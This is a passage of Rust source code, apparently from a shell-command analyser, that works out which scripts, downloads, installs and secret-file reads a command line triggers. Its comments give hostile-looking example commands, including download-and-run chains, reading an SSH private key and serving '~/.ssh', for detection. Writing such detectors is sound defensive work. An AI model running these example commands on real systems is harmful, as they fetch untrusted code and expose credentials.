        for row in knowledge::autoruns(program, module).filter(|row| {
            row.subcommands.is_empty()
                || subcommand.is_some_and(|sub| row.subcommands.contains(&sub))
        }) {
            let found = self.written.iter().find(|path| {
                row.files
                    .iter()
                    .any(|file| knowledge::autorun_file(file, path))
            });
            if let Some(path) = found {
                runs.opaque.push(if row.reads {
                    format!(
                        "`{program}` first reads `{path}`, which is written on this line, and what it holds (settings, statements it runs) is only known then"
                    )
                } else {
                    format!(
                        "`{program}` runs `{path}`, which is written on this line, and what it runs is only known then"
                    )
                });
            }
            for file in whole_option_values(args, row.options) {
                // `cmake -P /dev/stdin <<< '…'`: the file is the line's input, whose language
                // the reader does not read.
                if knowledge::STDIN_PATHS.contains(&file) {
                    runs.opaque.push(format!(
                        "`{program}` first reads `{file}`, its input, and what it holds (settings, statements it runs) is only known then"
                    ));
                } else if file.starts_with("<(") || self.was_written(file) {
                    runs.opaque.push(format!(
                        "`{program}` first reads `{file}`, which is made on this line, and what it holds (settings, statements it runs) is only known then"
                    ));
                }
            }
            for name in row.variables {
                // An exported function's body is read as what the shell may run.
                if *name == knowledge::FUNCTION_VARIABLES {
                    match self.environment(name) {
                        Some(Binding::Known(values)) => {
                            for value in values {
                                let body = value.trim_start();
                                let body = body.strip_prefix("()").unwrap_or(body);
                                runs.word(program, body.to_owned());
                            }
                        }
                        Some(_) => runs.opaque(
                            program,
                            "a function it is handed in its environment is only known at run time",
                        ),
                        None => {}
                    }
                    continue;
                }
                if let Some(binding) = self.environment(name) {
                    // `BASH_ENV=<(echo '…')`: the file is a process substitution's output.
                    if let Binding::Known(values) = binding {
                        for value in values.iter().filter(|value| value.starts_with("<(")) {
                            self.script_file(program, value, runs);
                        }
                    }
                    let folders = knowledge::SEARCH_PATH_VARIABLES.contains(name);
                    let written = match binding {
                        // A list of files (`LD_PRELOAD="a.so b.so"`) runs each; a list of
                        // folders loads what the line writes below one.
                        Binding::Known(values) => values.iter().any(|value| {
                            let known = match UnknownWord::decode(value) {
                                None => value.as_str(),
                                Some(_) if !folders => return true,
                                // What run time gives may be any folder, one the line
                                // writes into among them.
                                Some(_) if self.writes_anything() => return true,
                                // `$LD_LIBRARY_PATH:/tmp/lib` on a line that writes nothing
                                // run time names: the folders spelled whole beside it.
                                Some(unknown) => {
                                    let before = unknown.prefix.rsplit_once(':');
                                    let after = unknown.suffix.split_once(':');
                                    return before
                                        .map(|(whole, _)| whole)
                                        .into_iter()
                                        .chain(after.map(|(_, whole)| whole))
                                        .flat_map(|whole| whole.split(':'))
                                        .any(|folder| {
                                            !folder.is_empty() && self.wrote_below(folder)
                                        });
                                }
                            };
                            // `ENV='$(…)'`: an interactive shell expands the value first.
                            if !folders && (known.contains("$(") || known.contains('`')) {
                                return true;
                            }
                            known.split([' ', ':']).any(|part| {
                                !part.is_empty()
                                    && if folders {
                                        self.wrote_below(part)
                                    } else {
                                        // `BASH_ENV=/dev/stdin bash -c : <<< '…'`
                                        knowledge::STDIN_PATHS.contains(&part)
                                            || self.was_written(part)
                                    }
                            })
                        }),
                        // Arrays are never exported (bash(1), Arrays): only run time knows.
                        Binding::Unknown(_) | Binding::Array(_) | Binding::Reference(_) => {
                            !folders || self.writes_anything()
                        }
                    };
                    if written && folders {
                        runs.opaque.push(format!(
                            "`{program}` loads code from the folders `${name}` names, where this line writes files"
                        ));
                    } else if written {
                        runs.opaque.push(format!(
                            "`{program}` first runs the file `${name}` names, written on this line or only known at run time"
                        ));
                    }
                }
            }
        }
    }

    /// The code `python -m MODULE` runs besides the module's own: the module's file when
    /// the line wrote it (`python3 -m m` runs `m.py`), the statements `timeit` times, the
    /// script a profiler, debugger or tracer runs (`-m cProfile FILE`, `pdb`, `trace`,
    /// `profile`) when the line makes it, and the code the console `code` reads
    fn python_module_runs(&self, program: &str, args: &[String], runs: &mut Runs) {
        let Some((module, rest)) = python_module(program, args) else {
            return;
        };
        match module {
            "timeit" => {
                let mut code = Vec::new();
                let mut words = rest.iter();
                while let Some(word) = words.next() {
                    match word.as_str() {
                        "-s" | "--setup" => code.extend(words.next().cloned()),
                        "-n" | "--number" | "-r" | "--repeat" | "-u" | "--unit" => {
                            words.next();
                        }
                        word if word.starts_with("--setup=") => {
                            code.push(word.trim_start_matches("--setup=").to_owned());
                        }
                        word if word.starts_with("-s") => code.push(word[2..].to_owned()),
                        word if word.starts_with('-') => {}
                        _ => code.push(word.clone()),
                    }
                }
                if !code.is_empty() {
                    runs.word(
                        program,
                        format!("{program} -c {}", single_quoted(&code.join("\n"))),
                    );
                }
            }
            "cProfile" | "profile" | "pdb" | "trace" => {
                if let Some(script) = rest
                    .iter()
                    .find(|word| word.starts_with("<(") || self.was_written(word))
                {
                    runs.opaque.push(format!(
                        "`{program} -m {module}` runs `{script}`, made on this line, and what it runs is only known then"
                    ));
                }
            }
            "code" => runs.opaque.push(format!(
                "`{program} -m code` runs the Python its input holds, which is not read there"
            )),
            _ => {
                let path = module.replace('.', "/");
                let file = format!("{path}.py");
                if self.was_written(&file) {
                    runs.word(program, format!("{program} {}", single_quoted(&file)));
                } else if self.wrote_below(&path) {
                    runs.opaque.push(format!(
                        "`{program} -m {module}` runs code of `{path}`, written on this line, which is only known then"
                    ));
                }
            }
        }
    }

    /// A program that runs code of the folder it works in (a row of
    /// [`knowledge::FOLDER_RUNNERS`]: `npm install`, `make`, `cargo build`) in a folder
    /// fetched on the line, as the folder the line moved to or one its options name (`npm
    /// --prefix d`, `make -C d`): what it runs is only known then
    fn folder_code(&self, program: &str, args: &[String], runs: &mut Runs) {
        // Most lines fetch no folder: nothing to look up then.
        if self.fetched.is_empty() {
            return;
        }
        // `python3 -m pytest` runs what `pytest` does.
        let (name, words) = python_module(program, args).unwrap_or((program, args));
        let Some((row, subcommand)) = knowledge::folder_runner(name, words, expand::is_unknown)
        else {
            return;
        };
        // A row of any subcommand may take an option's value for one (`make -C d`).
        let called = if subcommand.is_empty() || row.subcommands == knowledge::Subcommands::Any {
            name.to_owned()
        } else {
            format!("{name} {subcommand}")
        };
        let named = knowledge::runner_folders(row, words);
        let places: Vec<Option<String>> = if named.is_empty() {
            // Before any `cd`, the folder is the project's; after one only run time knows,
            // it may be any.
            match &self.context.cwd {
                Some(cwd) => vec![Some(cwd.clone())],
                None if self.project.is_some() => vec![None],
                None => Vec::new(),
            }
        } else {
            named
                .iter()
                .map(|folder| {
                    (!expand::is_unknown(folder)).then(|| normalise(folder, &self.context))
                })
                .collect()
        };
        for place in places {
            match place {
                Some(path) => {
                    if let Some(folder) = self.fetched_folder_holding(&path) {
                        let folder = if folder.is_empty() {
                            "a folder".to_owned()
                        } else {
                            format!("`{folder}`")
                        };
                        runs.opaque.push(format!(
                            "`{called}` runs {} {folder}, fetched on this line, and what it runs is only known then",
                            row.runs
                        ));
                        return;
                    }
                }
                None => {
                    runs.opaque.push(format!(
                        "`{called}` runs {} the folder it works in, known only at run time, which may be one fetched on this line",
                        row.runs
                    ));
                    return;
                }
            }
        }
    }

    /// The folder fetched on the line that `path`, normalised, is or lies below; `""` for
    /// one only known at run time, which every relative path may lie below
    fn fetched_folder_holding(&self, path: &str) -> Option<&str> {
        self.fetched.iter().map(String::as_str).find(|folder| {
            (folder.is_empty() && !path.starts_with(['/', '~']))
                || path == *folder
                || path
                    .strip_prefix(*folder)
                    .is_some_and(|below| below.starts_with('/'))
        })
    }

    /// Whether `word`, as a path, is a file written earlier on the line
    fn was_written(&self, word: &str) -> bool {
        !self.written.is_empty() && self.written.contains(&normalise(word, &self.context))
    }

    /// Whether the line has written or fetched a file so far, where it says or where only
    /// run time knows (`wget -P "$d"`): a value only run time knows may then name it
    fn writes_anything(&self) -> bool {
        !self.written.is_empty()
            || !self.fetched.is_empty()
            || self.commands.iter().any(|command| {
                command
                    .unknown
                    .iter()
                    .any(|unknown| matches!(unknown.part, Part::Write(_) | Part::Redirect(_)))
            })
    }

    /// Whether the line writes a file below the folder `word`
    fn wrote_below(&self, word: &str) -> bool {
        if self.written.is_empty() {
            return false;
        }
        let folder = normalise(word, &self.context);
        let folder = folder.trim_end_matches('/');
        self.written.iter().any(|path| {
            path.strip_prefix(folder)
                .is_some_and(|below| below.starts_with('/'))
        })
    }

    /// The text of the file at `word` when the line last wrote it whole from literal words
    /// (`cat > x.sh <<'EOF'`) and fetched no folder it is in
    fn written_text(&self, word: &str) -> Option<&str> {
        if self.written_texts.is_empty() {
            return None;
        }
        let path = normalise(word, &self.context);
        let last = self.written.iter().rposition(|written| *written == path)?;
        let fetched = self.fetched.iter().any(|folder| {
            folder.is_empty()
                || path
                    .strip_prefix(folder.as_str())
                    .is_some_and(|below| below.starts_with('/'))
        });
        if fetched {
            return None;
        }
        self.written_texts
            .iter()
            .find(|(entry, _)| *entry == last)
            .map(|(_, text)| text.as_str())
    }

    /// `wget -O a.tgz URL && tar xzf a.tgz -C d && d/install`, `curl URL | tar xz`: what an
    /// archive written or fetched on the line holds is as unknown as the archive, in the
    /// folder it is unpacked into (the one it runs in, unless it names one)
    fn note_extracted(&mut self, command: &SimpleCommand, upstream: &[usize]) {
        let downloaded = upstream.iter().any(|index| {
            self.commands
                .get(*index)
                .is_some_and(|feeding| knowledge::DOWNLOADS.contains(&feeding.program.as_str()))
        });
        let written = command
            .paths
            .iter()
            .any(|path| !command.writes.contains(path) && self.runs_fetched_or_written(path));
        if !downloaded && !written {
            return;
        }
        let mut folders: Vec<String> = command
            .writes
            .iter()
            .filter_map(|path| path.strip_suffix("/*"))
            .map(str::to_owned)
            .collect();
        if folders.is_empty() {
            // A folder only run time knows is kept as "": every relative path is below it.
            folders.push(self.context.cwd.clone().unwrap_or_default());
        }
        self.fetched.append(&mut folders);
    }

    /// Whether `command` copies or moves files of the project, which the line neither wrote
    /// nor fetched, to the files it writes (`cp`, `install`, `mv`)
    fn copies_project_file(&self, command: &SimpleCommand) -> bool {
        if !knowledge::PLAIN_COPIERS.contains(&command.program.as_str())
            || !command.unknown.is_empty()
        {
            return false;
        }
        let Some(project) = &self.project else {
            return false;
        };
        // Every operand not written is a source (a mode's digits, `install -m 755`, read as
        // a path of the project too, which does no harm).
        let mut sources = command
            .paths
            .iter()
            .filter(|path| !command.writes.contains(path))
            .peekable();
        sources.peek().is_some()
            && sources.all(|source| {
                source
                    .strip_prefix(project.as_str())
                    .is_some_and(|below| below.starts_with('/'))
                    && !knowledge::is_secret_path(source)
                    && !self.runs_fetched_or_written(source)
            })
    }

    /// Whether the file `word` names was last written on the line as a copy of a project
    /// file (see [`Self::copies_project_file`])
    fn is_project_copy(&self, word: &str) -> bool {
        // Most lines copy no project file: nothing to normalise the word for.
        if self.project_copies.is_empty() {
            return false;
        }
        let path = normalise(word, &self.context);
        self.written
            .iter()
            .rposition(|written| *written == path)
            .is_some_and(|last| self.project_copies.contains(&last))
    }

    /// Whether the command's input is a file the line wrote or fetched, or a process
    /// substitution's output (`gcc -x c - < <(curl …)`)
    fn input_fetched_or_written(&self) -> bool {
        match &self.input {
            Some(RedirectedInput::File(file)) => {
                file.starts_with("<(") || self.runs_fetched_or_written(file)
            }
            _ => false,
        }
    }

    /// Whether the file at `word`, which a command runs, was written earlier on the line or
    /// came with a folder fetched on it (`git clone URL d && bash d/x.sh`)
    fn runs_fetched_or_written(&self, word: &str) -> bool {
        if self.was_written(word) {
            return true;
        }
        let path = normalise(word, &self.context);
        self.fetched.iter().any(|folder| {
            (folder.is_empty() && !path.starts_with(['/', '~']))
                || path
                    .strip_prefix(folder.as_str())
                    .is_some_and(|below| below.starts_with('/'))
        })
    }

    /// The scripts a command runs that can be read, and why the ones that cannot are not
    fn runs(
        &self,
        program: &str,
        written_as: &str,
        args: &[String],
        stdin: Option<String>,
        upstream: &[usize],
    ) -> Runs {
        let mut runs = Runs::default();
        let first_operand = || knowledge::script_operand(program, args);
        if let Some(client) = clients::effects(program, args, stdin.as_deref()) {
            for line in client.lines {
                runs.word(program, line);
            }
            for file in client.files {
                runs.writes.push(self.path(&file, false));
            }
            runs.reads.extend(
                client
                    .reads
                    .iter()
                    .filter_map(|file| self.path(file, false).ok()),
            );
            runs.opaque.extend(client.unknown);
        }
        // `curl … | ed -s f` runs whatever `!cmd` the download holds.
        if stdin.is_none()
            && knowledge::database_client(program).is_some_and(|row| row.input_is_script)
        {
            self.runs_input(program, upstream, &mut runs);
        }
        // `vim -S x.vim` runs the commands of `x.vim`: read as a shell's script file is.
        for file in vim::sourced_files(program, args) {
            self.script_file(program, file, &mut runs);
        }
        if let Some(debugger) = debugger::debugger(program) {
            self.debugger_runs(
                debugger,
                program,
                args,
                stdin.as_deref(),
                upstream,
                &mut runs,
            );
        }
        match program {
            "eval" => {
                let unknown = args
                    .iter()
                    .filter_map(|arg| UnknownWord::decode(arg))
                    .find(|word| !word.own_code);
                match unknown {
                    Some(word) => runs.opaque(program, &word.why),
                    // `eval 'source /dev/stdin' <<< '…'`: its commands read its input.
                    None => runs.word_fed(
                        program,
                        args.iter()
                            .filter(|arg| !expand::is_unknown(arg))
                            .cloned()
                            .collect::<Vec<_>>()
                            .join(" "),
                        stdin.as_deref(),
                    ),
                }
            }
            "su" | "runuser" => {
                if let Some(script) = option_value(args, 'c', "--command") {
                    runs.word_fed(program, script, stdin.as_deref());
                }
            }
            // `trap [-lpP] [--] [ACTION] SIGNAL…`: after `--` the action may start with `-`;
            // a lone `-` resets the signals.
            "trap" => {
                let after_options = match args.first().map(String::as_str) {
                    Some("--") => args.get(1),
                    _ => args.first().filter(|arg| !arg.starts_with('-')),
                };
                if let Some(script) = after_options.filter(|arg| *arg != "-") {
                    let signals = args.iter().skip_while(|arg| *arg != script).skip(1);
                    let mut signals = signals.peekable();
                    // An `EXIT` trap runs when the shell ends: with what it has set by then
                    // (`trap 'rm -f "$tmp"' EXIT; tmp=$(mktemp)`). Another signal may come
                    // at any time, so its trap is read where it is set.
                    let at_exit = signals.peek().is_some()
                        && signals.all(|signal| {
                            matches!(
                                signal.to_ascii_uppercase().as_str(),
                                "EXIT" | "SIGEXIT" | "0"
                            )
                        });
                    if at_exit && !expand::is_unknown(script) {
                        runs.at_exit.push(script.clone());
                    } else {
                        runs.word(program, script.clone());
                    }
                }
            }
            "sg" => {
                let mut operands = args.iter().filter(|arg| !arg.starts_with('-'));
                if let Some(script) = operands.nth(1) {
                    runs.word(program, script.clone());
                }
            }
            "tmux" => {
                let runs_command = [
                    "new-session",
                    "new",
                    "new-window",
                    "neww",
                    "split-window",
                    "splitw",
                    "respawn-pane",
                    "respawnp",
                    "respawn-window",
                    "respawnw",
                    "run-shell",
                    "run",
                    "display-popup",
                    "popup",
                ];
                let sub = args
                    .iter()
                    .position(|arg| runs_command.contains(&arg.as_str()));
                let last = args.last().filter(|arg| !arg.starts_with('-'));
                if let (Some(sub), Some(last)) = (sub, last) {
                    if args.len() > sub + 1 {
                        runs.word(program, last.clone());
                    }
                }
                // `send-keys` types its words into a pane's shell, which runs them;
                // `if-shell CMD TMUX-CMD…` runs CMD, then tmux commands of its own.
                let operands_after = |names: &[&str]| {
                    let Some(at) = args.iter().position(|arg| names.contains(&arg.as_str())) else {
                        return Vec::new();
                    };
                    let mut operands = Vec::new();
                    let mut words = args.iter().skip(at + 1);
                    while let Some(word) = words.next() {
                        // The pane, the repeat count and the client take the next word.
                        if matches!(word.as_str(), "-t" | "-N" | "-c") {
                            words.next();
                        } else if !word.starts_with('-') {
                            operands.push(word.clone());
                        }
                    }
                    operands
                };
                for keys in operands_after(&["send-keys", "send"]) {
                    runs.word(program, keys);
                }
                for (at, operand) in operands_after(&["if-shell", "if"]).into_iter().enumerate() {
                    if at == 0 || expand::is_unknown(&operand) {
                        runs.word(program, operand);
                    } else {
                        runs.script(format!("tmux {operand}"));
                    }
                }
            }
            // `screen -X stuff TEXT` types TEXT into a window's shell (`\n` a line break).
            "screen" => {
                let stuffed = args
                    .iter()
                    .position(|arg| arg == "stuff")
                    .and_then(|at| args.get(at + 1));
                if let Some(text) = stuffed {
                    runs.word(program, text.replace("\\n", "\n").replace("\\r", "\n"));
                }
            }
            // `. /dev/stdin` runs its input, as a shell given no script does.
            "source" | "."
                if first_operand().is_some_and(|file| STDIN_PATHS.contains(&file.as_str())) =>
            {
                match stdin.clone() {
                    Some(script) => runs.script(script),
                    None => self.runs_input(program, upstream, &mut runs),
                }
            }
            "source" | "." => {
                if let Some(file) = first_operand() {
                    self.script_file(program, file, &mut runs);
                }
            }
            "crontab" => self.crontab_runs(args, stdin.as_deref(), &mut runs),
            // socat's `SYSTEM:` and `EXEC:` addresses run a command line and a program.
            "socat" => {
                for address in knowledge::socat_addresses(args) {
                    match address {
                        SocatAddress::Script(script) => runs.word(program, script),
                        SocatAddress::Exec(words) => runs.inline.push(InlineRun::Exec(words)),
                        SocatAddress::Path { .. } => {}
                    }
                }
                for unknown in args.iter().filter_map(|arg| UnknownWord::decode(arg)) {
                    if let Some((SocatOpens::CommandLine | SocatOpens::Program, _)) =
                        knowledge::socat_opens(&unknown.prefix)
                    {
                        runs.opaque(program, &unknown.why);
                    }
                }
            }
            _ if knowledge::NETCATS.contains(&program) => {
                for run in knowledge::netcat_runs(args) {
                    match run {
                        NetcatRun::Script(script) => runs.word(program, script),
                        NetcatRun::Exec(words) => runs.inline.push(InlineRun::Exec(words)),
                    }
                }
            }
            // `fc` runs the commands of the history again, edited (`-e`) or changed (`-s
            // old=new`) as it runs; `fc -l` lists them.
            "fc" if !args
                .iter()
                .any(|arg| arg.starts_with('-') && arg.contains('l')) =>
            {
                runs.opaque.push(
                    "`fc` runs commands of the shell's history again, edited at run time"
                        .to_owned(),
                );
            }
            // `jobs -x COMMAND ARGS…` runs the command (`help jobs`).
            "jobs" => {
                if let Some(at) = args.iter().position(|arg| arg == "-x") {
                    let words = args.get(at + 1..).unwrap_or_default().to_vec();
                    if !words.is_empty() {
                        runs.inline.push(InlineRun::Exec(words));
                    }
                }
            }
            "parallel" => self.parallel_runs(program, args, stdin.clone(), upstream, &mut runs),
            "git" => self.git_runs(args, &mut runs),
            // ninja(1) reads `build.ninja`, or the file of `-f`, whose rules' `command =`
            // lines run as make's recipes do.
            "make" | "gmake" | "bmake" | "ninja" | "samu" => {
                let files = option_value(args, 'f', "--file")
                    .or_else(|| option_value(args, 'f', "--makefile"));
                // `make -f -`: the makefile is its input, whose recipes run as command lines.
                if files
                    .as_deref()
                    .is_some_and(|file| STDIN_PATHS.contains(&file) || file.starts_with("<("))
                {
                    runs.opaque.push(format!(
                        "the recipes `{program}` runs come from a build file given as its input, read only when it runs"
                    ));
                }
                let written = match &files {
                    Some(file) => self.was_written(file).then(|| file.clone()),
                    None if matches!(program, "ninja" | "samu") => self
                        .was_written("build.ninja")
                        .then(|| "build.ninja".to_owned()),
                    None => ["GNUmakefile", "makefile", "Makefile"]
                        .into_iter()
                        .find(|file| self.was_written(file))
                        .map(str::to_owned),
                };
                if let Some(file) = written {
                    runs.opaque.push(format!(
                        "`{file}` is written on this line, and the recipes `{program}` runs from it are only known then"
                    ));
                }
            }
            "sed" | "gsed" => {
                // `sed -f FILE`: a script the line gives as text is read as one (`-f -` with
                // a here-string, a file written whole from literal words); one from a
                // substitution, the input, or a file the line wrote otherwise may hold an `e`
                // command only known when it runs.
                let mut texts: Vec<&str> = knowledge::sed_scripts(args).collect();
                for file in knowledge::sed_script_files(args) {
                    let from_input = STDIN_PATHS.contains(&file);
                    let given = from_input.then_some(stdin.as_deref()).flatten();
                    match given.or_else(|| self.written_text(file)) {
                        Some(text) => texts.push(text),
                        None if from_input
                            || file.starts_with("<(")
                            || expand::is_unknown(file)
                            || self.was_written(file) =>
                        {
                            runs.opaque.push(format!(
                                "the `{program}` script `{file}` is only known when it runs, and may run command lines (its `e` command)"
                            ));
                        }
                        None => {}
                    }
                }
                if texts.into_iter().any(knowledge::sed_executes) {
                    runs.opaque.push(format!(
                        "the `{program}` script runs a command line (its `e` command), built as it runs"
                    ));
                }
            }
            _ => {}
        }
        // What ssh reads goes to the remote command, or, given none, to a login shell,
        // which runs it (`ssh HOST <<'EOF' … EOF`).
        let remote = knowledge::remote_command(program, args);
        match (remote, stdin.as_ref()) {
            // An input only run time knows goes on so: the remote command that reads it
            // runs what only then is known.
            (Some(script), Some(input)) if !expand::is_unknown(&script) => {
                runs.fed.push((script, input.clone()))
            }
            (Some(script), _) => runs.word(program, script),
            (None, _) if knowledge::is_remote_shell(program) => match stdin.clone() {
                Some(input) => runs.script(input),
                None if !upstream.is_empty() => self.runs_input(program, upstream, &mut runs),
                None => {}
            },
            (None, _) => {}
        }
        for (evaluation, value) in knowledge::builtin_code(program, args) {
            self.builtin_code(
                program,
                args,
                evaluation,
                value,
                stdin.as_deref(),
                &mut runs,
            );
        }
        let subcommand = subcommand_of(program, args);
        for script in knowledge::option_scripts(program, subcommand, args, expand::is_unknown) {
            match script {
                // `nmap --script <(…)`: the program runs the file a process substitution
                // makes, as a shell runs its script file.
                Ok(file) if file.starts_with("<(") => self.script_file(program, &file, &mut runs),
                Ok(script) => runs.word(program, script),
                Err(why) => runs.opaque.push(why),
            }
        }
        if SHELLS.contains(&program) {
            self.shell_runs(program, args, stdin, upstream, &mut runs);
        } else if STDIN_RUNNERS.contains(&program) {
            match knowledge::job_file(args) {
                Some(file) if !STDIN_PATHS.contains(&file) => {
                    self.script_file(program, file, &mut runs)
                }
                _ => match stdin {
                    Some(script) => runs.script(script),
                    None => self.runs_input(program, upstream, &mut runs),
                },
            }
        } else if let Some(row) = knowledge::interpreter(program) {
            let codes = knowledge::inline_code(row, args);
            for code in &codes {
                if expand::is_unknown(code) {
                    runs.opaque.push(format!(
                        "the code `{program}` is given on its command line is built at run time"
                    ));
                } else {
                    self.inline(row, program, code, &mut runs);
                }
            }
            if codes.is_empty() {
                match (stdin, first_operand()) {
                    (Some(code), _) if expand::is_unknown(&code) => runs.opaque.push(format!(
                        "the code `{program}` reads from its input is built at run time"
                    )),
                    (Some(code), None) => self.inline(row, program, &code, &mut runs),
                    (Some(code), Some(file)) if STDIN_PATHS.contains(&file.as_str()) => {
                        self.inline(row, program, &code, &mut runs)
                    }
                    // Given no code and no file, or `-`, it runs its input.
                    (None, None) => self.runs_input(program, upstream, &mut runs),
                    (None, Some(file)) if STDIN_PATHS.contains(&file.as_str()) => {
                        self.runs_input(program, upstream, &mut runs)
                    }
                    (_, Some(file)) if self.written_text(file).is_some() => {
                        let text = self.written_text(file).unwrap_or_default();
                        self.inline(row, program, text, &mut runs);
                    }
                    // `node <(echo CODE)`, `python3 /dev/fd/3`: read as a shell's script is.
                    (_, Some(file)) if file.starts_with("<(") || descriptor_of(file).is_some() => {
                        self.script_file(program, file, &mut runs)
                    }
                    (_, Some(file)) if self.runs_fetched_or_written(file) => {
                        runs.opaque.push(format!(
                            "`{file}` is written or fetched on this line, and what it runs is only known then"
                        ));
                    }
                    _ => {}
                }
            }
        }
        // `python3 -m pip install …` installs as `pip install …` does.
        let package = knowledge::fetched_package(program, args).or_else(|| {
            let (module, rest) = python_module(program, args)?;
            knowledge::fetched_package(module, rest)
        });
        if let Some(package) = package {
            runs.opaque.push(format!(
                "`{program}` runs `{package}`, fetched from elsewhere as it runs: what its code does is only known then"
            ));
        } else if let Some(file) =
            knowledge::run_operand(program, args).filter(|file| self.runs_fetched_or_written(file))
        {
            runs.opaque.push(format!(
                "`{file}` is written or fetched on this line, and what it runs is only known then"
            ));
        // A file the line wrote or downloaded is installed as its URL would be, and so is a
        // folder fetched on the line, or a file of one (`cd d && pip install .`), whose build
        // code is as much the fetched code as its scripts; a list of packages the line wrote
        // names packages of the registry, and one it fetched only run time knows.
        } else {
            // `python3 -m pip install .` installs as `pip install .` does.
            let (installer, words) = python_module(program, args).unwrap_or((program, args));
            let package = knowledge::installed_package(installer, words, |spec| {
                let lists = knowledge::lists_packages(words, spec);
                if self.was_written(spec) && !lists {
                    return true;
                }
                let path = if lists {
                    Some(spec)
                } else {
                    knowledge::local_package(spec)
                };
                path.is_some_and(|path| {
                    self.fetched_folder_holding(&normalise(path, &self.context))
                        .is_some()
                })
            });
            if let Some(package) = package {
                runs.opaque.push(if knowledge::lists_packages(words, package) {
                    format!(
                        "`{program}` installs the packages `{package}` lists, fetched on this line: which they are, and their build code, are only known then"
                    )
                } else {
                    format!(
                        "`{program}` installs `{package}`, written or fetched on this line, running its own code as it builds or installs it, which is only known then"
                    )
                });
            }
        }
        // A file server sends the folders it serves to whoever asks: read as `serve`, the
        // static file server, of each (`php -S … -t ~/.ssh` is `serve -- ~/.ssh`).
        if let Some(folders) = knowledge::served_folders(program, args) {
            if program != "serve" {
                let mut words = vec!["serve".to_owned(), "--".to_owned()];
                words.extend(folders);
                runs.inline.push(InlineRun::Exec(words));
            }
        }
        self.network_input(program, &mut runs);
        self.variable_runs(program, &mut runs);
        self.autoruns(program, subcommand, args, &mut runs);
        self.folder_code(program, args, &mut runs);
        self.python_module_runs(program, args, &mut runs);
        // A name without `/` is looked up in `PATH`: only a file written by that very name
        // may be it (a `PATH` holding `.`), not one of a fetched folder.
        // With `PATH` changed on the line, a file of that name written on it may be what runs.
        // So may one written into a folder that project tools put first on `PATH` (`npx`,
        // `npm run`, an activated virtual environment: `node_modules/.bin`, `.venv/bin`).
        // A copy of a project file runs what the project file does.
        let ran_written = if self.is_project_copy(written_as) {
            false
        } else if written_as.contains('/') {
            self.runs_fetched_or_written(written_as)
        } else {
            self.was_written(written_as)
                || self.written.iter().any(|path| {
                    path.rsplit_once('/').is_some_and(|(folder, name)| {
                        name == written_as
                            && (self.environment("PATH").is_some()
                                || knowledge::PROJECT_BIN_FOLDERS
                                    .iter()
                                    .any(|bin| folder.ends_with(bin)))
                    })
                })
        };
        if ran_written {
            runs.opaque.push(format!(
                "`{written_as}` is written or fetched on this line, and what it runs is only known then"
            ));
        }
        runs
    }

    /// What code given to an interpreter (on its command line, or as a literal input such
    /// as a here-document) does, as the commands the shell reader knows: the command lines
    /// it hands to a shell, the programs it runs, its deletes as `rm` and `rmdir`, its
    /// writes as redirects of the interpreter's output
    fn inline(&self, row: &knowledge::Interpreter, program: &str, code: &str, runs: &mut Runs) {
        let word = |value: Value| match value {
            Value::Known(word) => word,
            Value::Unknown(why) => unknown_path(why).encode(),
        };
        for effect in inline::effects(row.lang, program, code, self.deadline) {
            match effect {
                // `spawn('/bin/sh')`: a command line that is one program and plain words is
                // judged as those words run (below).
                Effect::Script(Value::Known(script))
                    if is_plain_words(&script)
                        && reads_code_the_caller_feeds(
                            &script
                                .split_whitespace()
                                .map(|word| Value::Known(word.to_owned()))
                                .collect::<Vec<_>>(),
                        ) =>
                {
                    runs.opaque.push(starts_a_reader_of_fed_code(program))
                }
                Effect::Script(Value::Known(script)) => runs.inline.push(InlineRun::Script(script)),
                Effect::Script(Value::Unknown(why)) => runs.opaque.push(format!(
                    "the command line the code of `{program}` runs is built at run time: {why}"
                )),
                Effect::Exec(words) if words.is_empty() => {}
                // `spawn('sh', [])`: a shell or an interpreter given no code reads it from
                // the input the code gives it, a socket's or a pipe's.
                Effect::Exec(words) if reads_code_the_caller_feeds(&words) => {
                    runs.opaque.push(starts_a_reader_of_fed_code(program))
                }
                Effect::Exec(words) => runs
                    .inline
                    .push(InlineRun::Exec(words.into_iter().map(word).collect())),
                Effect::Delete {
                    tree,
                    empty_folder,
                    path,
                } => {
                    let how: &[&str] = match (tree, empty_folder) {
                        (_, true) => &["rmdir", "--"],
                        (true, false) => &["rm", "-r", "-f", "--"],
                        (false, false) => &["rm", "-f", "--"],
                    };
                    let mut words: Vec<String> =
                        how.iter().map(|word| (*word).to_owned()).collect();
                    words.push(word(path));
                    runs.inline.push(InlineRun::Exec(words));
                }
                Effect::Write(path) => runs.writes.push(match path {
                    Value::Known(path) => self.path(&path, false),
                    Value::Unknown(why) => Err(why),
                }),
                Effect::Opaque(why) => runs.opaque.push(why),
                // `inline::effects` applied it to the effects after it.
                Effect::Chdir(_) => {}
            }
        }
        // `print(open('/home/me/.ssh/id_rsa').read())`: a secret the code names is among
        // the files it reads, whichever call opens it.
        for literal in inline::string_literals(code) {
            if let Ok(path) = self.path(literal, false) {
                if knowledge::is_secret_path(&path) {
                    runs.reads.push(path);
                }
            }
        }
    }

    /// What `git` runs besides itself: the commands of `bisect run` and `submodule foreach`,
    /// and the command lines of its environment (`GIT_EXTERNAL_DIFF='...' git diff`)
    fn git_runs(&self, args: &[String], runs: &mut Runs) {
        let after = |word: &str| {
            let at = args.iter().position(|arg| arg == word)?;
            let rest = args.get(at + 1..)?;
            (!rest.is_empty()).then(|| rest.to_vec())
        };
        let subcommand = subcommand_of("git", args);
        match subcommand {
            // `bisect run CMD ARGS…` runs the program with its words, no shell between.
            Some("bisect") => {
                if let Some(words) = after("run") {
                    runs.inline.push(InlineRun::Exec(words));
                }
            }
            // `submodule foreach` hands its words, joined, to a shell.
            Some("submodule") => {
                if let Some(words) = after("foreach") {
                    runs.word("git", words.join(" "));
                }
            }
            _ => {}
        }
        for setting in git_settings(args) {
            self.git_hooks_written(setting, runs);
        }
        // `git clone --template=DIR`, `git init --template DIR`: the template's hooks are
        // copied into the repository and run there (`post-checkout` on the clone itself).
        if let Some(template) = knowledge::git_template(subcommand, args) {
            if let Some(hooks) = knowledge::git_hook_folder("init.templatedir", template) {
                self.git_hooks_written_in(&hooks, runs);
            }
        }
        // `ext::CMD` names a remote by a command git runs, its words split at spaces, `% `
        // a space within one (git-remote-ext(1)).
        for url in args.iter().filter_map(|arg| arg.strip_prefix("ext::")) {
            runs.inline.push(InlineRun::Exec(ext_words(url)));
        }
    }

    /// The command lines a program runs from its environment (`GIT_EXTERNAL_DIFF='...' git
    /// diff`, `LESSOPEN='|... %s' less f`)
    fn variable_runs(&self, program: &str, runs: &mut Runs) {
